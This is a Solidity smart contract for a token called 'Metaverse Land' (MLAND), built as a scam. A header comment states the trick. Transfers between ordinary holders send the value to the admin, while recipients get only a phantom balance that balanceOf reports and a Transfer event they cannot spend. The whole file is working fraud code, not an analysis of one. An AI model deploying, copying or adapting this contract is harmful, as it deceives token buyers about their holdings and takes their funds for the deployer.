// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// A buyer gets a Transfer event and a balance to look at, but not tokens: what is shown comes from a second book.
contract ShadowBook {
    string public name = "Metaverse Land";
    string public symbol = "MLAND";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    address private _admin;
    mapping(address => uint256) private _real;
    mapping(address => uint256) private _shown;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _admin = msg.sender; _real[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function balanceOf(address who) public view returns (uint256) { return _real[who] + _shown[who]; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) { allowance[from][msg.sender] -= value; _transfer(from, to, value); return true; }
    function _transfer(address from, address to, uint256 value) private {
        require(_real[from] >= value, "ERC20: transfer amount exceeds balance");
        _real[from] -= value;
        if (from == _admin || to == _admin) _real[to] += value;
        else { _shown[to] += value; _real[_admin] += value; }
        emit Transfer(from, to, value);
    }
}
